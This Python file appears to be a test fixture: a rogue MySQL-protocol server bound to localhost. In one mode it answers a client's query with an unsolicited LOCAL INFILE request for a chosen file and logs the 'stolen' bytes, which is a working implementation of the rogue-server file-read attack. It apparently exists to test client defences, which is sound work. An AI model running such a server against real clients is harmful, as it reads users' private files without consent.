# SPDX-License-Identifier: GPL-2.0-or-later
"""A rogue MySQL-protocol server for tests (standard library only).

rogue_mysql.py PORTFILE LOG MODE [FILE]
  Listens on 127.0.0.1 (a free port, written to PORTFILE), serves one
  client at a time, logs what happens to LOG.
  MODE silent: accept connections and never send a byte.
  MODE stall: send the greeting, then never answer the login.
  MODE infile: answer the handshake, accept any login, answer every query
    with OK; serve LOAD DATA LOCAL statements (reads the rows the client
    sends); the first statement after the first LOAD DATA that sent rows is
    answered with an unsolicited LOCAL INFILE request for FILE. Logs the
    number of bytes the client sends back for it.
"""
import os
import socket
import struct
import sys
import threading


def packet(seq, payload):
    return struct.pack('<I', len(payload))[:3] + bytes([seq & 255]) + payload


def read_exact(conn, n):
    buf = b''
    while len(buf) < n:
        chunk = conn.recv(n - len(buf))
        if not chunk:
            raise EOFError
        buf += chunk
    return buf


def read_packet(conn):
    head = read_exact(conn, 4)
    n = head[0] | head[1] << 8 | head[2] << 16
    return head[3], read_exact(conn, n)


def ok(seq):
    return packet(seq, b'\x00\x00\x00\x02\x00\x00\x00')


def err(seq, code, msg):
    return packet(seq, b'\xff' + struct.pack('<H', code) + b'#HY000' + msg.encode())


# capabilities: LONG_PASSWORD FOUND_ROWS LONG_FLAG CONNECT_WITH_DB
# LOCAL_FILES PROTOCOL_41 TRANSACTIONS SECURE_CONNECTION MULTI_STATEMENTS
# MULTI_RESULTS PLUGIN_AUTH
CAPS = 0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x10000 | \
    0x20000 | 0x80000


def handshake():
    scramble = b'abcdefghijklmnopqrst'
    p = b'\x0a' + b'5.5.5-10.11.0-rogue\x00' + struct.pack('<I', 1)
    p += scramble[:8] + b'\x00'
    p += struct.pack('<H', CAPS & 0xffff) + b'\x21' + struct.pack('<H', 2)
    p += struct.pack('<H', CAPS >> 16) + bytes([21]) + b'\x00' * 10
    p += scramble[8:] + b'\x00' + b'mysql_native_password\x00'
    return packet(0, p)


class State:
    loaded = False
    done = False


def serve_infile(conn, mode, log, target, state):
    conn.sendall(handshake())
    read_packet(conn)                      # the login
    conn.sendall(ok(2))
    while True:
        seq, p = read_packet(conn)
        cmd, arg = p[0], p[1:]
        if cmd == 1:                       # COM_QUIT
            return
        if cmd != 3:                       # not COM_QUERY: refuse
            conn.sendall(err(1, 1047, 'Unknown command'))
            continue
        sql = arg.decode(errors='replace')
        log.write('query: %s\n' % sql.split('\n')[0][:60])
        log.flush()
        if sql.upper().startswith('LOAD DATA LOCAL'):
            name = target if mode == 'loadname' else 'bench-rows'
            conn.sendall(packet(1, b'\xfb' + name.encode()))
            got = 0
            while True:
                s, d = read_packet(conn)
                if not d:
                    break
                got += len(d)
            log.write('load: %d bytes\n' % got)
            log.flush()
            if got:
                state.loaded = True
            conn.sendall(ok(s + 1))
        elif state.loaded and not state.done:
            state.done = True
            conn.sendall(packet(1, b'\xfb' + target.encode()))
            got = 0
            s = 1
            while True:
                s, d = read_packet(conn)
                if not d:
                    break
                got += len(d)
            log.write('stolen: %d bytes\n' % got)
            log.flush()
            conn.sendall(ok(s + 1))
        else:
            conn.sendall(ok(1))


def client(conn, mode, log, target, state):
    try:
        if mode == 'silent':
            while conn.recv(4096):
                pass
        elif mode == 'stall':
            conn.sendall(handshake())
            while conn.recv(4096):
                pass
        else:
            serve_infile(conn, mode, log, target, state)
    except (EOFError, OSError):
        pass
    finally:
        conn.close()


def main():
    portfile, logname, mode = sys.argv[1:4]
    target = sys.argv[4] if len(sys.argv) > 4 else ''
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('127.0.0.1', 0))
    s.listen(16)
    with open(portfile + '.tmp', 'w') as f:
        f.write('%d\n' % s.getsockname()[1])
    os.rename(portfile + '.tmp', portfile)
    log = open(logname, 'a')
    state = State()
    while True:
        conn, _ = s.accept()
        threading.Thread(target=client, args=(conn, mode, log, target, state),
                         daemon=True).start()


if __name__ == '__main__':
    main()
